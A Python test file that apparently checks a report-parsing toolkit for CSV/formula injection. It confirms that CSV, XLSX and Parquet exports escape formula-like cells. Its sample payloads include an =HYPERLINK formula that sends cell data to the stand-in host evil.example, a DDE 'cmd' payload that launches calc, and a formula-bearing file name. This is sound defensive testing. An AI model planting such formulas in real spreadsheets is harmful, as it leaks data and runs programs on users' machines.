"""Exports that cannot run code: a real report with one cell changed to a formula.

XLSX holds no formula cell, CSV no field a spreadsheet evaluates, Parquet the
exact printed text, and a CSV read back by ``toolkit export`` gives that text again.
"""

from __future__ import annotations

import csv
import re
import subprocess
import sys

import pandas as pd
import pytest
from openpyxl import load_workbook
from support import RAW, ROOT

INJECTED = '=HYPERLINK("http://evil.example/?q="&A1,"see")'
# Written here from the rule's definition (OWASP), not imported from toolkit.spreadsheet.
_NUMBER = re.compile(r"[+-]\s*(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?\s*$")


def evaluated(field: str) -> bool:
    """Whether Excel/WPS would treat a CSV field as a formula."""
    if field[:1] in ("=", "@", "\t", "\r"):
        return True
    return field[:1] in ("+", "-") and len(field) > 1 and not _NUMBER.match(field)


def run(*args, cwd=ROOT):
    return subprocess.run([sys.executable, "-m", "toolkit.cli", *args], capture_output=True, text=True, cwd=cwd)


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """ninghe-kejiju-2023.txt with one requests cell (table 2, row 4, col 2, line 79) replaced by a formula."""
    lines = (RAW / "ninghe-kejiju-2023.txt").read_text(encoding="utf-8").split("\n")
    assert lines[78].strip() == "0", lines[78]
    lines[78] = "\t" + INJECTED
    d = tmp_path_factory.mktemp("inj")
    path = d / "ninghe-kejiju-2023.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


def csv_fields(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [f for row in csv.reader(fh) for f in row]


def test_rule_keeps_blanks_and_signed_numbers():
    from toolkit.spreadsheet import protect, unprotect

    for text in ("-", "—", "-8", "+3.5", "-1,200", "0", "上海市", ""):
        assert protect(text) == text
    for text in (INJECTED, "@SUM(A1)", "+x", "-cmd|' /C calc'!A0", "\tx", "\rx", "'=1", "''@a"):
        assert evaluated(protect(text)) is False and protect(text).startswith("'")
        assert unprotect(protect(text)) == text


def test_csv_xlsx_parquet_of_an_injected_report(injected, tmp_path):
    pq, xl, cs = tmp_path / "cells.parquet", tmp_path / "cells.xlsx", tmp_path / "cells.csv"
    for out in (pq, cs):
        proc = run("parse", str(injected), "-o", str(out))
        assert proc.returncode == 0, proc.stderr
    cells = pd.read_parquet(pq)
    assert (cells["raw"] == INJECTED).sum() == 1  # Parquet keeps the printed text exactly
    proc = run("export", str(pq), "-o", str(xl))
    assert proc.returncode == 0, proc.stderr

    wb = load_workbook(xl)
    kinds = [(c.data_type, c.value) for ws in wb for row in ws.iter_rows() for c in row]
    assert not [v for t, v in kinds if t == "f"]
    assert ("s", INJECTED) in kinds

    fields = csv_fields(cs)
    assert not [f for f in fields if evaluated(f)]
    assert "'" + INJECTED in fields

    stdout = run("parse", str(injected))
    assert stdout.returncode == 0
    assert not [f for row in csv.reader(stdout.stdout.splitlines()) for f in row if evaluated(f)]

    # toolkit export reads a CSV back with the rule undone: the round trip keeps the printed text.
    back = tmp_path / "back.parquet"
    proc = run("export", str(cs), "-o", str(back))
    assert proc.returncode == 0, proc.stderr
    again = pd.read_parquet(back)
    assert (again["raw"] == INJECTED).sum() == 1
    assert again["raw"].fillna("").tolist() == cells["raw"].fillna("").tolist()
    assert again["agency"].tolist() == cells["agency"].tolist()


def test_export_csv_and_wide_xlsx_from_shards(injected, tmp_path):
    out = tmp_path / "shards"
    proc = run("parse", str(injected), "-o", str(out), "--workers", "1")
    assert proc.returncode == 0, proc.stderr
    cs, xl = tmp_path / "wide.csv", tmp_path / "wide.xlsx"
    for dest in (cs, xl):
        proc = run("export", str(out), "-o", str(dest), "--table", "requests", "--values", "raw")
        assert proc.returncode == 0, proc.stderr
    fields = csv_fields(cs)
    assert "'" + INJECTED in fields and not [f for f in fields if evaluated(f)]
    wb = load_workbook(xl)
    assert not [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_errors_csv_and_validate_csv_are_safe(tmp_path, injected):
    bad = tmp_path / "in" / "=1+2.html"  # a file name from the web, quoted in errors.csv
    bad.parent.mkdir()
    bad.write_text("<html><body><p>页面不存在</p></body></html>", encoding="utf-8")
    proc = run("parse", "=1+2.html", "-o", str(tmp_path / "out"), "--workers", "1", cwd=bad.parent)
    assert proc.returncode == 1
    fields = csv_fields(tmp_path / "out" / "errors.csv")
    assert "'=1+2.html" in fields and not [f for f in fields if evaluated(f)]

    proc = run("validate", "=1+2.html", "--format", "csv", cwd=bad.parent)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    proc = run("validate", str(injected), "--format", "csv", "-o", str(tmp_path / "v.csv"))
    assert proc.returncode in (0, 1), proc.stderr
    fields = csv_fields(tmp_path / "v.csv")
    assert not [f for f in fields if evaluated(f)]


def test_chart_table_csv_is_safe(tmp_path):
    from toolkit.analyse.charts import save_table

    df = pd.DataFrame({"agency": [INJECTED, "示例市公安局"], "change": ["-8", "-"], "n": [1, 2]})
    path = save_table(df, "table", out_dir=tmp_path)
    fields = csv_fields(path)
    assert "'" + INJECTED in fields and "-8" in fields and "-" in fields
    assert not [f for f in fields if evaluated(f)]
